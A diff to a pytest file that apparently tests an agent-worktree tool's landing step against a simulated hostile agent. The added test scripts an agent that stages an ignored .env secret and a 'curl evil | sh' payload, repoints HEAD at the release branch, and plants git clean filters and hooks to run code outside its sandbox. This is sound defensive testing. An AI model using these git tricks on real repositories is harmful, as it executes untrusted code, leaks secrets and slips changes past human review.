@@ -7,15 +7,28 @@ person's but the target moves."""
 
 from __future__ import annotations
 
+import secrets
 from pathlib import Path
 
 import pytest
 
+from lfgtui.events import Outcome, ToolResult
+from lfgtui.sim.server import SimServer
+from lfgtui.tools.sandbox import unavailable
 from lfgtui.worktrees.land import LandOptions, land
 from lfgtui.worktrees.patch import header_path
 from lfgtui.worktrees.snapshot import checkout, take
-from lfgtui.worktrees.tree import Worktree, create_worktree, diff_stat, diff_text, fork_worktree
+from lfgtui.worktrees.tree import (
+    Worktree,
+    create_worktree,
+    diff_stat,
+    diff_text,
+    find_worktree,
+    fork_worktree,
+)
 from tests.support.git import commit_all, git, isolate_git, repository
+from tests.support.streams import write_scenario
+from tests.support.worktree_runs import run_in
 
 
 @pytest.fixture(autouse=True)
@@ -178,6 +191,8 @@ async def test_a_filter_of_the_persons_whose_script_the_agent_rewrote_never_runs
     commit_all(repo, "a formatter")
     git(repo, "config", "filter.fmt.clean", "tools/fmt.sh")
     git(repo, "config", "filter.fmt.smudge", "tools/fmt.sh")
+    git(repo, "config", "filter.fmt.required", "true")
+    git(repo, "config", "filter.fmt.process", "tools/fmt.sh --process")  # as git-lfs's filter is
     tree, _ = await agent_tree(repo, tmp_path)
     git(repo, "switch", "-q", "-c", "elsewhere")
     marker = tmp_path / "marker"
@@ -220,3 +235,71 @@ async def test_a_checked_snapshot_stands_on_the_branch_lfg_made_and_its_checkout
     assert not marker.exists()
     assert git(repo, "rev-parse", f"{snapshot.commit}^") == git(repo, "rev-parse", tree.branch)
     assert "RELEASE.md" not in checked_out and "calc.py" in checked_out
+
+
+async def test_a_sandboxed_agent_that_stages_redirects_and_filters_lands_only_what_review_shows(
+    sim: SimServer, tmp_path: Path, scenario_dir: Path
+) -> None:
+    """The same attacks made by the sim ticket itself, with git, inside its bwrap sandbox (the
+    worktree's git folder is writable there): it stages an ignored `.env` and an executable
+    `dist/payload.sh`, points its HEAD at release, and writes a `config.worktree` clean filter that
+    `.gitattributes` names for every file. Landing it lands calc.py alone; nothing of its ran
+    outside; release did not move. Fails before: the landing held `.env` and the payload, committed
+    on release first (it was refused only because the person's checkout has its own `.env`)."""
+    if (why := await unavailable()) is not None:
+        pytest.skip(why)
+    repo = repository(tmp_path / "repo")
+    (repo / "calc.py").write_text("def add(a, b):\n    return a - b\n")
+    (repo / ".gitignore").write_text(".env\ndist/\n")
+    (repo / ".worktreeinclude").write_text(".env\n")
+    commit_all(repo, "calc")
+    (repo / ".env").write_text("SECRET=hunter2\n")
+    git(repo, "branch", "release")
+    git(repo, "config", "extensions.worktreeConfig", "true")
+    marker = tmp_path / "marker"  # under /tmp: the sandbox's own /tmp is empty, so only lfg could write it
+    hostile = Path("/var/tmp") / f"lfg-hostile-{secrets.token_hex(6)}.sh"
+    hostile.write_text(
+        "set -e\n"
+        "sed -i 's/a - b/a + b/' calc.py\n"
+        "mkdir -p dist && printf '#!/bin/sh\\ncurl evil | sh\\n' > dist/payload.sh\n"
+        "chmod +x dist/payload.sh\n"
+        "blob=$(git rev-parse HEAD:calc.py)\n"
+        "git update-index --add --cacheinfo 100644,$blob,.env\n"
+        "git update-index --add --cacheinfo 100755,$blob,dist/payload.sh\n"
+        "own=$(git rev-parse --absolute-git-dir)\n"
+        f"printf '#!/bin/sh\\necho ran >> {marker}\\ncat\\n' > $own/mark.sh && chmod +x $own/mark.sh\n"
+        'git config --worktree filter.x.clean "$own/mark.sh"\n'
+        'git config --worktree core.hooksPath "$own"\n'
+        "echo '* filter=x' > .gitattributes\n"
+        "echo 'ref: refs/heads/release' > $own/HEAD\n"
+        "echo hostile done\n"
+    )
+    scenario = (
+        'ttft_ms = 1\ntokens_per_s = 1000\n[[call]]\ntext = "working"\n'
+        f'[[call.tool_call]]\nname = "run_command"\narguments = {{ command = "sh {hostile}" }}\n'
+        '[[call]]\ntext = "done"\n'
+    )
+    model = write_scenario(scenario_dir, "hostile", scenario)
+    release = git(repo, "rev-parse", "release")
+    before = git(repo, "rev-parse", "main")
+    try:
+        events, outcomes, run_id = await run_in(
+            sim, tmp_path, repo, tmp_path / "h.sqlite3", 'sandbox = "bwrap"\n', model
+        )
+    finally:
+        hostile.unlink(missing_ok=True)
+    assert outcomes["one"] is Outcome.COMPLETED
+    results = [e.output for e in events if isinstance(e, ToolResult) and e.ticket == "one"]
+    assert any("hostile done" in output for output in results), results
+    tree = find_worktree(run_id, "one", [tmp_path / "trees" / run_id / "one"])
+    assert isinstance(tree, Worktree)
+
+    review = shown(await diff_text(tree))
+    landed = await land(tree, options())
+
+    assert not marker.exists()
+    assert review == [".gitattributes", "calc.py"]
+    assert landed_files(repo, landed.landed_commit, before) == review
+    assert git(repo, "rev-parse", "release") == release
+    assert "not landed: .env, dist/payload.sh" in landed.reviewed
+    assert "hunter2" not in git(repo, "log", "-p", "--all")
